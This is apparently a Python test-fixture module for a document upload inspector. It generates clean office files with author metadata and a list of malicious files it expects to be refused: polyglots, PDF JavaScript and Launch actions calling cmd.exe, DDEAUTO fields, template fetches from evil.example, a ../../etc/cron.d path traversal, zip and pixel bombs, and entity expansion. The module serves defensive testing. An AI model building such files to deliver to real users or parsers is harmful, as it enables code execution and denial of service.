"""Files to try the door with, each made by code: what offices write, and what nobody should get in.

GOOD and BAD map a name, which says its kind by its ending, to a function that makes the file; BAD also says
with which word of inspection_verdicts.VERDICTS it is refused.
"""

import functools
import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo

from tests.portfolios.makers import WORD_RELS, WORD_TEXT, WORD_TYPES, pdf_file, picture, word_file

MAKER = "Kim Maker"
"""Whom the good files name in every place that a program writes a name in."""
PLACE = (51.0, 30.0, 26.0)
HTML = b"<html><script>alert(document.domain)</script></html>"
DECLARED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NAMES = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def kind_of(name):
    """The reader of a file of this name: pdf, word, jpeg or png."""
    return {"pdf": "pdf", "docx": "word", "jpg": "jpeg", "jpeg": "jpeg", "png": "png"}[
        name.rpartition(".")[2]
    ]


def of_pdf(change, **options):
    """A PDF of one page after `change(document)`."""
    document = pikepdf.open(io.BytesIO(pdf_file("Notes")))
    change(document)
    made = io.BytesIO()
    document.save(made, **options)
    return made.getvalue()


def zipped(*parts, stored=False):
    """A ZIP of these (name, content), as they are."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts:
            archive.writestr(name, content)
    return made.getvalue()


def rels(*those):
    """A part of relationships, each (type's last word, target), outside the document."""
    said = "".join(
        f'<Relationship Id="r{number}" TargetMode="External" Type="{DECLARED}/{kind}" Target="{target}"/>'
        for number, (kind, target) in enumerate(those)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="urn:r">{said}</Relationships>'.encode()


def word_of(paragraph):
    """A Word document whose one paragraph is this XML."""
    return word_file(
        text=WORD_TEXT.replace(b"<w:p><w:r><w:t>I met the child alone.</w:t></w:r></w:p>", paragraph)
    )


# What offices write


def exif(turn=1):
    data = Image.Exif()
    data[0x0112] = turn
    data[0x010F] = "Phone of " + MAKER
    data[0x013B] = MAKER
    where = data.get_ifd(0x8825)
    where[1], where[2], where[3], where[4] = "N", PLACE, "W", PLACE
    return data


def noise(size=(320, 200)):
    return Image.effect_noise(size, 60).convert("RGB")


def profile():
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def saved(image, form, **options):
    made = io.BytesIO()
    image.save(made, form, **options)
    return made.getvalue()


def photograph(turn=1, **options):
    """A JPEG as a telephone writes it: maker, place, XMP, comment, thumbnail's place, colour profile."""
    options = {"quality": 90, "comment": f"by {MAKER}".encode(), "icc_profile": profile()} | options
    return saved(noise(), "JPEG", exif=exif(turn), xmp=f"<x:xmpmeta>{MAKER}</x:xmpmeta>".encode(), **options)


def drawing():
    said = PngInfo()
    said.add_text("Author", MAKER)
    said.add_text("Comment", MAKER, zip=True)
    said.add_itxt("XML:com.adobe.xmp", MAKER)
    return saved(noise(), "PNG", pnginfo=said, exif=exif(), icc_profile=profile(), dpi=(144, 144))


def report():
    """A PDF as a word processor writes it, with a photograph, a link and a bookmark."""

    def fill(document):
        document.docinfo["/Author"] = MAKER
        document.docinfo["/Producer"] = f"Word of {MAKER}"
        with document.open_metadata() as about:
            about["dc:creator"] = [MAKER]
        page = document.pages[0].obj
        page.PieceInfo = pikepdf.Dictionary(Draw=pikepdf.Dictionary(Private=pikepdf.String(MAKER)))
        page.LastModified = pikepdf.String("D:20260101")
        page.Thumb = document.make_stream(bytes(3), Width=1, Height=1, BitsPerComponent=8)
        image = document.make_stream(
            photograph(),
            Type=pikepdf.Name.XObject,
            Subtype=pikepdf.Name.Image,
            Width=320,
            Height=200,
            ColorSpace=pikepdf.Name.DeviceRGB,
            BitsPerComponent=8,
        )
        image.Filter = pikepdf.Name.DCTDecode
        page.Resources.XObject = pikepdf.Dictionary(Im1=image)
        page.Contents = document.make_stream(
            page.Contents.read_bytes() + b" q 200 0 0 120 72 400 cm /Im1 Do Q"
        )
        page.Annots = pikepdf.Array(
            [
                pikepdf.Dictionary(
                    Type=pikepdf.Name.Annot,
                    Subtype=pikepdf.Name.Link,
                    Rect=[72, 700, 200, 720],
                    T=pikepdf.String(MAKER),
                    A=pikepdf.Dictionary(
                        S=pikepdf.Name.URI, URI=pikepdf.String("https://council.example/JS")
                    ),
                )
            ]
        )
        with document.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("About /JS and /Launch", 0))

    return of_pdf(fill)


def letter():
    """A Word document as Word writes it, with everything in it that says who wrote it."""
    types = WORD_TYPES.replace(
        b"</Types>",
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Override PartName="/docProps/custom.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/>'
        b'<Override PartName="/word/people.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.people+xml"/></Types>',
    )
    top = WORD_RELS.replace(
        b"</Relationships>",
        f'<Relationship Id="r2" Type="{DECLARED}/custom-properties" Target="docProps/custom.xml"/>'
        f'<Relationship Id="r3" Type="{DECLARED}/metadata/core-properties" Target="docProps/core.xml"/>'
        "</Relationships>".encode(),
    )
    named = f"<x>{MAKER}</x>".encode()
    return word_file(
        types=types,
        rels=top,
        text=WORD_TEXT.replace(b"<w:p>", b'<w:p w:rsidR="00AB12CD" w:rsidRDefault="00AB12CE">'),
        extra=[
            ("word/_rels/document.xml.rels", _document_rels()),
            (
                "word/_rels/settings.xml.rels",
                rels(("attachedTemplate", f"file:///C:/Users/{MAKER}/Normal.dotm")),
            ),
            ("word/settings.xml", _settings()),
            ("word/people.xml", named),
            ("word/media/image1.jpeg", photograph(6)),
            ("word/media/image2.png", drawing()),
            ("docProps/core.xml", named),
            ("docProps/app.xml", named),
            ("docProps/custom.xml", named),
            ("docProps/thumbnail.jpeg", photograph()),
            ("customXml/item1.xml", named),
        ],
    )


def _document_rels():
    inside = (("people", "people.xml"), ("settings", "settings.xml"), ("image", "media/image1.jpeg"))
    said = "".join(
        f'<Relationship Id="r{number}" Type="{DECLARED}/{kind}" Target="{target}"/>'
        for number, (kind, target) in enumerate(inside)
    )
    return (
        f'<?xml version="1.0"?><Relationships xmlns="urn:r">{said}<Relationship Id="r9" '
        f'TargetMode="External" Type="{DECLARED}/hyperlink" Target="https://council.example/"/></Relationships>'
    ).encode()


def _settings():
    return (
        f'<?xml version="1.0"?><w:settings xmlns:w="{NAMES}" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<w:attachedTemplate r:id="r0"/><w:rsids><w:rsidRoot w:val="00AB12CD"/></w:rsids></w:settings>'
    ).encode()


def with_a_film_behind():
    """A JPEG with a film behind it, as some telephones keep one: left out, not refused."""
    return photograph() + b"\x00\x00\x00\x18ftypmp42" + bytes(range(1, 200)) * 20


GOOD = {
    "plain.pdf": functools.cache(lambda: pdf_file("Notes")),
    "report.pdf": functools.cache(report),
    "blank behind.pdf": functools.cache(lambda: pdf_file("Notes") + b"\r\n\x00\x00\r\n"),
    "plain.docx": functools.cache(word_file),
    "letter.docx": functools.cache(letter),
    "photo.jpg": functools.cache(photograph),
    "in stages.jpg": functools.cache(lambda: photograph(progressive=True)),
    "lying.jpeg": functools.cache(lambda: photograph(6)),
    "mirrored.jpg": functools.cache(lambda: photograph(2, subsampling="4:2:2")),
    "moving.jpg": functools.cache(with_a_film_behind),
    "grey.jpg": functools.cache(lambda: saved(noise().convert("L"), "JPEG", exif=exif(8))),
    "print.jpg": functools.cache(lambda: saved(noise().convert("CMYK"), "JPEG", exif=exif(3))),
    "drawing.png": functools.cache(drawing),
    "palette.png": functools.cache(lambda: saved(noise().quantize(16), "PNG")),
    "see-through.png": functools.cache(lambda: saved(noise().convert("RGBA"), "PNG")),
}


# What nobody should get in


def _with(**annotation):
    def change(document):
        made = pikepdf.Dictionary(Rect=pikepdf.Array([0, 0, 9, 9]), **annotation)
        document.pages[0].obj.Annots = pikepdf.Array([made])

    return change


def _carrying(document):
    document.attachments["payload.exe"] = b"MZ"


def _portfolio(document):
    document.Root.Collection = pikepdf.Dictionary(View=pikepdf.Name.D)


def _loose(document):
    held = document.make_stream(b"MZ payload", Type=pikepdf.Name("/EmbeddedFile"))
    document.Root.Kept = pikepdf.Array([held])


def huge_png(width=20_000, height=20_000):
    """A PNG of a few hundred kilobytes that says, and means, so many pixels."""
    rows = zlib.compressobj(9)
    row = bytes(1 + width)
    squeezed = b"".join(rows.compress(row) for _ in range(height)) + rows.flush()
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", squeezed) + _chunk(b"IEND", b"")


def _chunk(name, held):
    return struct.pack(">I", len(held)) + name + held + struct.pack(">I", zlib.crc32(name + held))


def huge_jpeg():
    """A JPEG that says it is 20,000 pixels square."""
    content = bytearray(picture("JPEG"))
    at = content.index(b"\xff\xc0") + 5
    content[at : at + 4] = struct.pack(">HH", 20_000, 20_000)
    return bytes(content)


def swelling_word():
    """A document whose list of parts says that it unpacks to 400 megabytes."""
    content = bytearray(word_file(text=bytes(1 << 20)))
    place = content.rindex(b"PK\x01\x02")
    content[place + 24 : place + 28] = struct.pack("<I", 400 << 20)
    return bytes(content)


def overlapping_word():
    """Ten parts that share one part's bytes, as in a bomb of thousands."""
    content = word_file(extra=[("word/media/image0.bmp", bytes(1 << 20))])
    end = content.rindex(b"PK\x05\x06")
    (size, start) = struct.unpack_from("<II", content, end + 12)
    directory = content[start : start + size]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    more = b"".join(last.replace(b"image0.bmp", b"image%d.bmp" % number) for number in range(1, 10))
    count = struct.unpack_from("<H", content, end + 8)[0] + more.count(b"PK\x01\x02")
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, size + len(more), start, 0)
    return content[:start] + directory + more + tail


def lying_word():
    """A document whose list of parts says that forty megabytes are a thousand bytes."""
    content = bytearray(word_file(text=bytes(40 << 20)))
    place = content.rindex(b"PK\x01\x02")
    content[place + 24 : place + 28] = struct.pack("<I", 1000)
    return bytes(content)


def gap_word():
    """A document with a PDF between its parts and their list."""
    content = word_file()
    end = content.rindex(b"PK\x05\x06")
    (start,) = struct.unpack_from("<I", content, end + 16)
    inside = pdf_file("Another")
    moved = content[end : end + 16] + struct.pack("<I", start + len(inside)) + content[end + 20 :]
    return content[:start] + inside + content[start:end] + moved


def shouting_comment(content, comment):
    """A ZIP with a comment."""
    made = io.BytesIO(content)
    with zipfile.ZipFile(made, "a") as archive:
        archive.comment = comment
    return made.getvalue()


def picture_hiding(held):
    """A JPEG with a comment at its start."""
    return saved(noise((20, 20)), "JPEG", comment=held)


BAD = {
    "jpeg.pdf": (lambda: picture("JPEG"), "broken"),
    "words.docx": (lambda: zipped(("words.txt", b"words")), "broken"),
    "sheet.docx": (lambda: word_file(text=None, extra=[("xl/workbook.xml", b"<x/>")]), "broken"),
    "no top.docx": (lambda: word_file(rels=None), "broken"),
    "jar behind.pdf": (lambda: pdf_file() + zipped(("A.class", b"\xca\xfe\xba\xbe")), "two-kinds"),
    "jar inside.pdf": (
        lambda: pdf_file() + shouting_comment(zipped(("A.class", b"x")), b"\n%%EOF\n"),
        "two-kinds",
    ),
    "page behind.pdf": (lambda: pdf_file() + HTML, "two-kinds"),
    "program behind.pdf": (lambda: pdf_file() + b"MZ\x90\x00" + bytes(99), "two-kinds"),
    "jar behind.jpg": (lambda: picture("JPEG") + zipped(("A.class", b"x")), "two-kinds"),
    "pdf behind.jpg": (lambda: picture("JPEG") + pdf_file(), "two-kinds"),
    "pdf inside.jpg": (lambda: picture_hiding(pdf_file()[:400]), "two-kinds"),
    "page behind.jpg": (lambda: picture("JPEG") + HTML, "two-kinds"),
    "program behind.jpg": (lambda: picture("JPEG") + b"\x7fELF" + bytes(99), "two-kinds"),
    "jar behind.png": (lambda: picture() + zipped(("A.class", b"x")), "two-kinds"),
    "pdf behind.png": (lambda: picture() + pdf_file(), "two-kinds"),
    "page behind.png": (lambda: picture() + HTML, "two-kinds"),
    "picture behind.png": (lambda: picture() + b"GIF89a" + bytes(9), "two-kinds"),
    "pdf in it.docx": (gap_word, "two-kinds"),
    "pdf before.docx": (
        lambda: zipped(("a.pdf", pdf_file()), ("[Content_Types].xml", WORD_TYPES), stored=True),
        "two-kinds",
    ),
    "pdf after.docx": (lambda: word_file() + pdf_file(), "two-kinds"),
    "comment.docx": (lambda: shouting_comment(word_file(), HTML), "two-kinds"),
    "two archives.docx": (lambda: zipped(("A.class", b"x")) + word_file(), "two-kinds"),
    "password.pdf": (lambda: pdf_file(encryption=pikepdf.Encryption(owner="o", user="u")), "protected"),
    "no printing.pdf": (lambda: pdf_file(encryption=pikepdf.Encryption(owner="o", user="")), "protected"),
    "script.pdf": (lambda: of_pdf(lambda pdf: setattr(pdf.Root, "OpenAction", _script())), "active"),
    "launch.pdf": (lambda: of_pdf(_with(Subtype=pikepdf.Name.Link, A=_starts("Launch"))), "active"),
    "other file.pdf": (lambda: of_pdf(_with(Subtype=pikepdf.Name.Link, A=_starts("GoToE"))), "active"),
    "film.pdf": (lambda: of_pdf(_with(Subtype=pikepdf.Name.Screen)), "active"),
    "clip.pdf": (lambda: of_pdf(_with(Subtype=pikepdf.Name.FileAttachment)), "active"),
    "carrying.pdf": (lambda: of_pdf(_carrying), "active"),
    "portfolio.pdf": (lambda: of_pdf(_portfolio), "active"),
    "loose file.pdf": (lambda: of_pdf(_loose), "active"),
    "form.pdf": (
        lambda: of_pdf(
            lambda pdf: setattr(pdf.Root, "AcroForm", pikepdf.Dictionary(XFA=pikepdf.String("<x/>")))
        ),
        "active",
    ),
    "macros.docx": (
        lambda: word_file(types=WORD_TYPES.replace(b"document.main", b"document.macroEnabled.main")),
        "macros",
    ),
    "macros inside.docx": (lambda: word_file(extra=[("word/vbaProject.bin", b"x")]), "macros"),
    "ole.docx": (
        lambda: word_file(extra=[("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")]),
        "active",
    ),
    "sheet inside.docx": (
        lambda: word_file(extra=[("word/embeddings/Book.xlsx", zipped(("a", b"")))]),
        "active",
    ),
    "program inside.docx": (lambda: word_file(extra=[("word/media/image1.png", b"MZ\x90\x00")]), "active"),
    "archive inside.docx": (lambda: word_file(extra=[("word/media/i.png", zipped(("a", b"b")))]), "active"),
    "control.docx": (lambda: word_file(extra=[("word/activeX/activeX1.xml", b"<x/>")]), "active"),
    "fetched template.docx": (lambda: _fetching("attachedTemplate", "https://evil.example/t.dotm"), "active"),
    "fetched share.docx": (lambda: _fetching("attachedTemplate", "\\\\evil.example\\t.dotm"), "active"),
    "fetched picture.docx": (lambda: _fetching("image", "http://evil.example/seen.png"), "active"),
    "dde.docx": (
        lambda: word_of(
            b"<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe</w:instrText>"
            b"</w:r></w:p>"
        ),
        "active",
    ),
    "dde simple.docx": (lambda: word_of(b'<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>'), "active"),
    "swelling.docx": (swelling_word, "too-big"),
    "overlapping.docx": (overlapping_word, "too-big"),
    "lying.docx": (lying_word, "broken"),
    "many parts.docx": (
        lambda: word_file(extra=[(f"word/{number}", b"") for number in range(5001)]),
        "too-big",
    ),
    "way out.docx": (lambda: word_file(extra=[("../../etc/cron.d/x", b"x")]), "broken"),
    "twice.docx": (lambda: word_file(extra=[("word/Document.xml", WORD_TEXT)]), "broken"),
    "laughs.docx": (
        lambda: word_file(extra=[("word/styles.xml", b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>')]),
        "broken",
    ),
    "huge.png": (huge_png, "too-big"),
    "huge.jpg": (huge_jpeg, "too-big"),
    "cut short.pdf": (lambda: b"%PDF-1.7\n1 0 obj", "broken"),
    "cut short.png": (lambda: picture()[:-20], "broken"),
    "cut short.jpg": (lambda: picture("JPEG", (300, 300))[:600], "broken"),
    "cut short.docx": (lambda: word_file()[:-30], "broken"),
}


def _script():
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def _starts(what):
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{what}"), F=pikepdf.String("cmd.exe"))


def _fetching(kind, target):
    return word_file(extra=[("word/_rels/settings.xml.rels", rels((kind, target)))])
